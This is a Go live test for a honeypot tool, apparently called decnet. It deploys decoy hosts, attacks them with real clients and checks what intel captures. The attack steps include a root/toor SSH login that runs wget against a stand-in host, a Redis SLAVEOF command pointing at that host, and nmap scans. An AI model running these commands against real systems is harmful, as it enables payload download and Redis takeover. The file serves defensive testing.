//go:build live

package main

import (
	"bufio"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/decnet/decnet/intel"
	"github.com/decnet/decnet/providers"
)

func quickstart(t *testing.T) string {
	t.Helper()
	source, err := os.ReadFile("../../examples/quickstart/main.hcl")
	if err != nil {
		t.Fatal(err)
	}
	return string(source)
}

// TestLiveStory is the quickstart on both runtimes: from HCL to a caught
// attacker, through drift, a lost state and back to nothing.
func TestLiveStory(t *testing.T) {
	for _, runtime := range runtimes {
		t.Run(runtime, func(t *testing.T) {
			s := newStage(t, runtime, quickstart(t))
			s.must("apply", "--auto-approve")
			s.mustBeEmpty("after the first apply")
			stop := s.intel()
			caught(t, s)
			judged(t, s)
			stop()
			drifted(t, s)
			rebuilt(t, s)
			moved(t, s)
			s.must("destroy", "--auto-approve")
			s.mustBeGone()
		})
	}
}

// mustBeGone fails unless nothing is left in the state.
func (s *stage) mustBeGone() {
	s.t.Helper()
	if out := s.must("state", "list"); out != "" {
		s.t.Errorf("after destroy the state still has:\n%s", out)
	}
	if s.runtime == providers.RuntimeDocker {
		for _, what := range [][]string{{"ps", "-aq", "--filter", "label=decnet.lineage"}, {"network", "ls", "-q", "--filter", "label=decnet.lineage"}} {
			out, err := s.command(s.t.Context(), "operator", append([]string{"docker"}, what...)...).CombinedOutput()
			if err != nil || strings.TrimSpace(string(out)) != "" {
				s.t.Errorf("docker %s after destroy: %s %v", strings.Join(what, " "), out, err)
			}
		}
	}
	out, err := s.command(s.t.Context(), "operator", "ip", "-o", "link").CombinedOutput()
	if err != nil || strings.Contains(string(out), "decnet_") || strings.Contains(string(out), "macvlan") {
		s.t.Errorf("links after destroy: %s %v", out, err)
	}
}

// caught attacks with real clients and looks for it in intel.
func caught(t *testing.T, s *stage) {
	t.Helper()
	linux, web, database := s.output("linux_ip"), s.output("web_ip"), s.output("database_ip")
	if out := s.ssh("root", "letmein", linux, "id"); !strings.Contains(out, "Permission denied") {
		t.Errorf("a wrong password: %q", out)
	}
	if out := s.ssh("root", "toor", linux, "id"); !strings.Contains(out, "uid=0(root)") {
		t.Errorf("id: %q", out)
	}
	if out := s.ssh("root", "toor", linux, "uname -a; wget -T 2 -t 1 http://198.51.100.7/x"); !strings.Contains(out, "Linux") {
		t.Errorf("uname -a: %q", out)
	}
	if out := s.attack("curl", "-s", "-i", "--max-time", "10", "http://"+web+"/"); !strings.Contains(out, "Server: nginx") {
		t.Errorf("curl: %q", out)
	}
	if out := s.attack("redis-cli", "-h", database, "SLAVEOF", "198.51.100.7", "6379"); !strings.Contains(out, "OK") {
		t.Errorf("redis-cli: %q", out)
	}
	ask20(s, func(tags []intel.Tag) bool {
		seen := map[string]bool{}
		for _, tag := range tags {
			seen[tag.Technique] = true
		}
		return seen["T1078"] && seen["T1082"] && seen["T1033"] && seen["T1105"] && seen["T1190"]
	}, "ttp")
	ask20(s, func(all []intel.Credential) bool {
		seen := map[string]int64{}
		for _, c := range all {
			seen[string(c.Secret)] += c.Successes
		}
		wrong, tried := seen["letmein"]
		return tried && wrong == 0 && seen["toor"] == 2
	}, "credentials")
	ask20(s, func(all []intel.Session) bool { return len(all) >= 5 }, "sessions")
	ask20(s, func(all []intel.Attacker) bool {
		return len(all) == 1 && all[0].Source == "10.77.0.2" && len(all[0].Deckies) == 3
	}, "attackers")
}

// judged lets nmap say what it sees.
func judged(t *testing.T, s *stage) {
	t.Helper()
	for host, want := range map[string]string{
		s.output("linux_ip"):    `22/tcp +open +ssh +OpenSSH`,
		s.output("web_ip"):      `80/tcp +open +http +nginx`,
		s.output("database_ip"): `6379/tcp +open +redis +Redis key-value store`,
	} {
		out := s.attack("nmap", "-n", "-Pn", "-sV", "-p", "22,80,6379", "--host-timeout", "90s", host)
		if !regexp.MustCompile(want).MatchString(out) {
			t.Errorf("nmap -sV %s does not say %s:\n%s", host, want, out)
		}
	}
}

// drifted breaks a decky in three ways; each is seen with its reason, and one
// apply heals it.
func drifted(t *testing.T, s *stage) {
	t.Helper()
	for _, how := range s.damages() {
		how.do()
		stdout, stderr, code := s.try("plan", "--detailed-exitcode")
		if code != 2 || !strings.Contains(stdout, "drift") || !strings.Contains(stdout, how.seen) {
			t.Errorf("%s: exit code %d, want 2, drift and %q:\n%s%s", how.name, code, how.seen, stdout, stderr)
		}
		s.must("apply", "--auto-approve")
		s.mustBeEmpty("after healing: " + how.name)
	}
	if out := s.ssh("root", "toor", s.output("linux_ip"), "id"); !strings.Contains(out, "uid=0(root)") {
		t.Errorf("after healing, ssh says %q", out)
	}
}

type damage struct {
	name, seen string
	do         func()
}

func (s *stage) attribute(address, path string) string {
	s.t.Helper()
	return strings.TrimSpace(s.must("state", "show", address, "--attribute", path))
}

func (s *stage) damages() []damage {
	shell := func(argv ...string) {
		s.t.Helper()
		if out, err := s.command(s.t.Context(), "operator", argv...).CombinedOutput(); err != nil {
			s.t.Fatalf("%s: %v\n%s", strings.Join(argv, " "), err, out)
		}
	}
	inside := func(argv ...string) {
		s.t.Helper()
		shell(append([]string{"nsenter", "--net=" + s.namespace("decky.linux")}, argv...)...)
	}
	all := []damage{
		{"the link is deleted", "decky.linux", func() { inside("ip", "link", "delete", "eth0") }},
		{"a sysctl is changed", "ip_default_ttl", func() { inside("sh", "-c", "echo 99 > /proc/sys/net/ipv4/ip_default_ttl") }},
	}
	if s.runtime == providers.RuntimeDocker {
		return append(all, damage{"a service container is killed", "decky.linux.service.ssh", func() {
			shell("docker", "kill", s.attribute("decky.linux", "config.name")+"-ssh")
		}})
	}
	return all
}

// namespace is the path of a decky's network namespace.
func (s *stage) namespace(address string) string {
	s.t.Helper()
	if s.runtime == providers.RuntimeDocker {
		out, err := s.command(s.t.Context(), "operator", "docker", "inspect", "-f", "{{.State.Pid}}", s.attribute(address, "config.name")).Output()
		if err != nil {
			s.t.Fatal(err)
		}
		return "/proc/" + strings.TrimSpace(string(out)) + "/ns/net"
	}
	return s.attribute(address, "namespace")
}

// rebuilt loses the state file and makes it again.
func rebuilt(t *testing.T, s *stage) {
	t.Helper()
	before := s.must("state", "list")
	files, err := filepath.Glob(filepath.Join(s.dir, ".decnet", "state.db*"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no state file to lose: %v", err)
	}
	for _, f := range files {
		if err := os.Remove(f); err != nil {
			t.Fatal(err)
		}
	}
	s.must("state", "rebuild")
	if after := s.must("state", "list"); after != before {
		t.Errorf("before the loss:\n%safter the rebuild:\n%s", before, after)
	}
	s.mustBeEmpty("after the rebuild")
}

// moved adds and removes deckies; nobody else's address, MAC or name changes.
func moved(t *testing.T, s *stage) {
	t.Helper()
	identity := func() map[string]string {
		all := map[string]string{}
		for line := range strings.Lines(s.must("status")) {
			if fields := strings.Fields(line); len(fields) > 4 && strings.HasPrefix(fields[0], "decky.") {
				all[fields[0]] = strings.Join(fields[1:4], " ")
			}
		}
		return all
	}
	before := identity()
	source := quickstart(t)
	s.configure(strings.Replace(source, "count    = 2", "count    = 4", 1))
	s.must("apply", "--auto-approve")
	grown := identity()
	s.configure(source)
	s.must("apply", "--auto-approve")
	if len(before) != 5 || len(grown) != 7 {
		t.Fatalf("%d deckies, then %d", len(before), len(grown))
	}
	for address, was := range before {
		if grown[address] != was || identity()[address] != was {
			t.Errorf("%s was %s, is %s", address, was, grown[address])
		}
	}
	s.mustBeEmpty("after growing and shrinking")
}

// TestLiveLock comes with a second apply while the first is under way.
func TestLiveLock(t *testing.T) {
	s := newStage(t, providers.RuntimeNative, strings.Replace(quickstart(t), "count    = 2", "count    = 90", 1))
	first := s.decnet(t.Context(), "apply", "--auto-approve")
	out, err := first.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := first.Start(); err != nil {
		t.Fatal(err)
	}
	lines := bufio.NewScanner(out)
	for lines.Scan() && !strings.HasPrefix(lines.Text(), "Plan:") {
	}
	// Making ninety deckies takes longer than the second needs to start.
	_, stderr, code := s.try("apply", "--auto-approve")
	if code != 1 || !regexp.MustCompile(`locked by root@\S+, process \d+, decnet apply since \d{4}-`).MatchString(stderr) {
		t.Errorf("the second apply: exit code %d, %q; want who holds the lock and since when", code, stderr)
	}
	for lines.Scan() {
	}
	if err := first.Wait(); err != nil {
		t.Errorf("the first apply: %v", err)
	}
	s.mustBeEmpty("after both")
	s.must("destroy", "--auto-approve")
}
